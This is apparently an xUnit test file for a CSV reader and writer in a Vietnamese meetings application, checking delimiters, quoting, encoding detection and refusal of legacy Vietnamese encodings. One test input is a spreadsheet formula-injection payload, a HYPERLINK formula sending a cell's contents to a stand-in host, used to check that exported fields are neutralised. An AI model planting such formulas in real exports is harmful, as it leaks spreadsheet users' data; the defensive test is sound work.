using System.Text;
using DiemCau.Meetings.Shared.Tables;

namespace DiemCau.Meetings.Tests.Shared.Tables;

public sealed class CsvReadingTests
{
    [Theory]
    [InlineData("Mã;Tên;Ghi chú, khác\n1;Xã A, huyện B;a, b\n")]
    [InlineData("Mã\tTên\n1\tXã A, huyện B\n")]
    [InlineData("Mã|Tên\n1|Xã A, huyện B\n")]
    [InlineData("sep=^\nMã^Tên\n1^Xã A, huyện B\n")]
    [InlineData("Mã,Tên\n1,\"Xã A, huyện B\"\n")]
    [InlineData("\"Mã\";\"Tên\"\r\n\"1\";\"Xã A, huyện B\";;;\r\n")]
    public void What_separates_is_what_makes_a_table(string text) => Assert.Equal(["1", "Xã A, huyện B"], Read(text).Rows[1].Cells.Take(2).Select(cell => cell.Text));

    [Fact]
    public void Quotes_mean_something_at_the_beginning_of_a_field_only() => Assert.Equal(
        ["Phòng \"Một cửa\", tầng 1 nhà A", "5\" nhà"],
        Read("Mã,Tên\n\"Phòng \"\"Một cửa\"\", tầng 1\nnhà A\",5\" nhà\n").Rows[1].Cells.Select(cell => cell.Text));

    [Fact]
    public void A_quote_that_is_not_closed_makes_a_file_unreadable() => Assert.Throws<TableUnreadableException>(() => Read("Mã,Tên\n\"a,b\n"));

    [Theory]
    [InlineData("=HYPERLINK(\"http://xau.example/?\"&A1)")]
    [InlineData("+84905123456")]
    [InlineData("-5")]
    [InlineData("@SUM(1)")]
    [InlineData("'=1")]
    [InlineData("Xã A")]
    [InlineData("'quoted'")]
    public void No_field_is_a_formula_and_it_is_read_back_as_it_was(string cell)
    {
        var written = CsvTable.Write(["Mã", "Tên"], [["1", cell]]);
        var field = Encoding.UTF8.GetString(written).Split("1,", 2)[1].TrimStart('"');
        Assert.DoesNotContain(field[0], "=+-@");
        Assert.Equal(cell, CsvReading.Read(new MemoryStream(written), Understood, default).Rows[1][1].Text);
    }

    [Fact]
    public void A_control_character_is_refused_by_cell() =>
        Assert.Equal([null, "text_control"], Read("Mã,Tên\n1,a\u0007b\n").Rows[1].Cells.Select(cell => cell.Fault?.Code));

    [Theory]
    [InlineData("utf-8", true)]
    [InlineData("utf-8", false)]
    [InlineData("utf-16", true)]
    [InlineData("utf-16BE", true)]
    public void Unicode_is_read_by_its_mark_and_utf_8_without_one(string encoding, bool hasMark)
    {
        var written = Encoding.GetEncoding(encoding);
        byte[] file = [.. hasMark ? written.GetPreamble() : [], .. written.GetBytes("Mã\tTên\r\n01\tUBND xã Ea Kao, Đắk Lắk\r\n")];
        Assert.Equal(["01", "UBND xã Ea Kao, Đắk Lắk"], Read(file).Rows[1].Cells.Select(cell => cell.Text));
    }

    [Theory]
    [InlineData("4d E3 2C 54 EA 6E 0D 0A 31 2C 58 E3 20 45 61 20 4B 61 6F")] // Windows-1258, Mã,Tên / 1,Xã Ea Kao
    [InlineData("4d B7 2C 54 AA 6E 0D 0A 31 2C 58 B7 20 54 A9 6E")]          // TCVN3, Mã,Tên / 1,Xã Tân
    [InlineData("4d 61 F5 2C 54 65 E2 6E 0D 0A 31 2C 58 61 F5 20 54 61 E2 6E")] // VNI, Mã,Tên / 1,Xã Tân
    [InlineData("4d 00 E3 00 2C 00 54 00 EA 00 6E 00")]                       // UTF-16, little end first, without its mark
    [InlineData("4d 00 61 00 2C 00 54 00 65 00 6E 00 0A 00 31 00 2C 00 11 01")] // the same, every byte of which is right in UTF-8
    [InlineData("00 4d 00 61 00 2C 00 54 00 65 00 6E")]                       // and big end first
    public void Any_other_encoding_is_refused_rather_than_guessed(string bytes) =>
        Assert.Throws<TableUnreadableException>(() => Read(Convert.FromHexString(bytes.Replace(" ", "", StringComparison.Ordinal))));

    [Theory]
    [InlineData("UBND x· T©n TiÕn")]
    [InlineData("UBND xaõ Taân Tieán")]
    [InlineData("XÃ£ TÃ¢n")]
    public void What_was_saved_as_utf_8_from_an_old_font_is_refused_by_cell(string name) =>
        Assert.Equal([null, "table_cell_encoding"], Read($"Mã,Tên\n1,{name}\n").Rows[1].Cells.Select(cell => cell.Fault?.Code));

    [Fact]
    public void Half_a_letter_in_utf_16_is_refused_by_cell()
    {
        byte[] file = [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("Mã,Tên\n1,a"), 0x00, 0xd8, .. Encoding.Unicode.GetBytes("b\n")];
        Assert.Equal([null, "text_broken"], Read(file).Rows[1].Cells.Select(cell => cell.Fault?.Code));
    }

    private static Table Read(byte[] file) => CsvReading.Read(new MemoryStream(file), Understood, default);

    private static Table Read(string text) => CsvReading.Read(new MemoryStream(Encoding.UTF8.GetBytes(text)), Understood, default);

    private static int Understood(IReadOnlyList<TableRow> rows) => rows.Count == 0 ? 0 : rows[0].Cells.Count(cell => cell.Text is "Mã" or "Tên");
}
